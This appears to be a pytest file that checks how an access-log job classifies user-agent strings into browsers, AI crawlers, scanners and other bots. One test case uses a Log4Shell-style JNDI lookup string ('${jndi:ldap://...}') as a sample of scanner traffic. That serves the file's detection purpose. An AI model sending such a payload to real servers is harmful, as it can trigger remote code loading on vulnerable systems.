"""Which agent a user agent names."""

import pytest

from beam_jobs.access_log.agents.identify import BROWSER, Agent
from beam_jobs.access_log.agents.kinds import AgentKind
from beam_jobs.access_log.arrow.user_agents import classify

CHROME = "Mozilla/5.0 ({}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36"
WINDOWS = CHROME.format("Windows NT 10.0; Win64; x64")


def agent(user_agent: str) -> Agent | None:
    return classify(user_agent).agent


@pytest.mark.parametrize(
    "user_agent",
    [
        WINDOWS,
        CHROME.format("Linux; Android 9; CUBOT NOTE 20"),
        CHROME.format("Linux; Android 7.0; M bot 60 Build/NRD90M; wv"),
        CHROME.format("Linux; Android 12; moto g(50) 5G Build/S1RSS32.38-20-9-13; wv"),
        CHROME.format("Linux; Android 4.4.2; GLX SpiderI Build/KOT49H"),
        f"{WINDOWS} MyGooglebotFan/1.0",
        f"{WINDOWS} Abbott/1.0",
        "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0",
        "Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko",
        "Lynx/2.8.9rel.1 libwww-FM/2.14 SSL-MM/1.4.1 OpenSSL/1.1.1d",
        "NokiaN97/21.1.107 (SymbianOS/9.4; Series60/5.0) AppleWebKit/525 (KHTML, like Gecko)",
    ],
)
def test_what_people_browse_with_is_no_agent(user_agent: str) -> None:
    assert agent(user_agent) == BROWSER


@pytest.mark.parametrize(
    ("user_agent", "kind", "name", "operator"),
    [
        ("Mozilla/5.0 (compatible; XBot/1.0)", AgentKind.OTHER_BOT, "XBot", None),
        ("Mozilla/5.0 (compatible; Xyz/1.0; +http://www.xyz.co.uk/why)", AgentKind.OTHER_BOT, "Xyz", "xyz.co.uk"),
        (f"{WINDOWS} (compatible; Xyz)", AgentKind.OTHER_BOT, "Windows NT", None),
        (f"{WINDOWS} SomeCrawler/2.0", AgentKind.OTHER_BOT, "SomeCrawler", None),
        ("Mozilla/5.0", AgentKind.OTHER_BOT, None, None),
        ("Foo/1.0", AgentKind.OTHER_BOT, "Foo", None),
        ("${jndi:ldap://192.0.2.1/a}", AgentKind.SCANNER, None, None),
        ("Claude-User/1.0", AgentKind.AI_ASSISTANT, "Claude-User", "Anthropic"),
        ("Mozilla/5.0 (compatible; GPTBot/1.2; +https://openai.com/gptbot)", AgentKind.AI_TRAINING, "GPTBot", "OpenAI"),
        ("Mozilla/5.0 (compatible; OAI-SearchBot/1.0)", AgentKind.AI_SEARCH, "OAI-SearchBot", "OpenAI"),
        ("GoogleOther-Image/1.0", AgentKind.AI_TRAINING, "GoogleOther-Image", "Google"),
        ("AdsBot-Google (+http://www.google.com/adsbot.html)", AgentKind.ADVERTISING, "AdsBot-Google", "Google"),
        ("Feedly/1.0 (like FeedFetcher-Google)", AgentKind.FEED_READER, "Feedly", None),
        ("FreshRSS/1.11.2 (Linux; https://freshrss.org) like Googlebot", AgentKind.FEED_READER, "FreshRSS", None),
        ("kube-probe/1.29", AgentKind.MONITORING, "kube-probe", None),
        ("python-requests/2.32.3", AgentKind.LIBRARY, "python-requests", None),
        ("ThingBot/1.0 python-requests/2.32.3", AgentKind.LIBRARY, "python-requests", None),
        (
            CHROME.format("X11; Linux x86_64").replace("Chrome", "HeadlessChrome"),
            AgentKind.AUTOMATION,
            "HeadlessChrome",
            "Google",
        ),
        ("Twitterbot/1.0", AgentKind.LINK_PREVIEW, "Twitterbot", "X"),
        ("AhrefsBot/7.0", AgentKind.SEO, "AhrefsBot", "Ahrefs"),
    ],
)
def test_agents(user_agent: str, kind: AgentKind, name: str | None, operator: str | None) -> None:
    found = agent(user_agent)
    assert found is not None
    assert found[:3] == (kind, name, operator)


@pytest.mark.parametrize("user_agent", ["", " "])
def test_a_blank_user_agent_is_none(user_agent: str) -> None:
    assert agent(user_agent) is None


def test_a_name_is_not_endless() -> None:
    found = agent("x" * 500 + "bot/1.0")
    assert found is not None
    assert found.name is not None
    assert len(found.name) == 64
